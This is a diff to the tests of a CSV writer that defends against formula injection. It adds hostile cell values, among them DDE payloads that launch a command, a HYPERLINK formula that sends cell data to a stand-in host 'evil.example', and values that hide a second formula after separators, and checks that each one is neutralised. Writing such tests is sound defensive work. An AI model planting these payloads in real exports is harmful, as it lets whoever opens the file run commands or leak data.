@@ -32,8 +32,32 @@ test.each([
   '－1',
   '＠A1',
   '\r=1',
+  '\nx',
+  '\n=1',
+  '\u00a0=1',
+  '\ufeff=1',
+  '=cmd|"/C calc"!A0',
+  '@SUM(1)*cmd|"/C calc"!A0',
+  '-2+3+cmd|"/C calc"!A0',
+  '=HYPERLINK("https://evil.example/?"&A1,"x")',
+  '=IMPORTXML(A1,"//a")',
+  '=1","=2',
 ])('the text %j is no formula', (text) => {
   expect(written(text)?.replace(/^"/, '')).toMatch(/^'/);
+});
+
+test.each([
+  ['a;=1', "a;'=1"],
+  ['a; -1', "a;' -1"],
+  ['a\t@x', "a\t'@x"],
+  ['a\n=1', '"a\n\'=1"'],
+  ['a\r\n+1', '"a\r\n\'+1"'],
+  ['a;＝1;=2', "a;'＝1;'=2"],
+  ['";=1', '""";\'=1"'],
+  ['a, -1', '"a, -1"'],
+  ['a;b', 'a;b'],
+])('the text %j begins no formula in a spreadsheet that parts cells elsewhere: %j', (text, expected) => {
+  expect(writeCsv(['a'], [[text]]).slice('\uFEFFa\r\n'.length, -2)).toBe(expected);
 });
 
 test.each([
@@ -46,6 +70,13 @@ test.each([
 ])('%j is written %s', (cell, expected) => {
   expect(written(cell)).toBe(expected);
 });
+
+/** The text without the apostrophes that keep a spreadsheet from computing it. */
+function unguarded(text: string): string {
+  return text
+    .replace(/^'(?=\s*(?:[;\t\r\n]')?[^\S\t\r\n]*[=+\-@＝＋－＠\t\r\n])/, '')
+    .replaceAll(/(?<=[;\t\r\n])'(?=[^\S\t\r\n]*[=+\-@＝＋－＠])/g, '');
+}
 
 test('a reader of CSV gets back every text and every number', () => {
   const cell = fc.oneof(
@@ -61,9 +92,7 @@ test('a reader of CSV gets back every text and every number', () => {
       const back = read.slice(1).map((row, line) =>
         row.map((text, index) => {
           const original = rows[line]?.[index];
-          return typeof original === 'number'
-            ? Number(text)
-            : text.replace(/^'(?=\s*[=+\-@＝＋－＠\t\r])/, '');
+          return typeof original === 'number' ? Number(text) : unguarded(text);
         }),
       );
       // The sign of zero is not written.
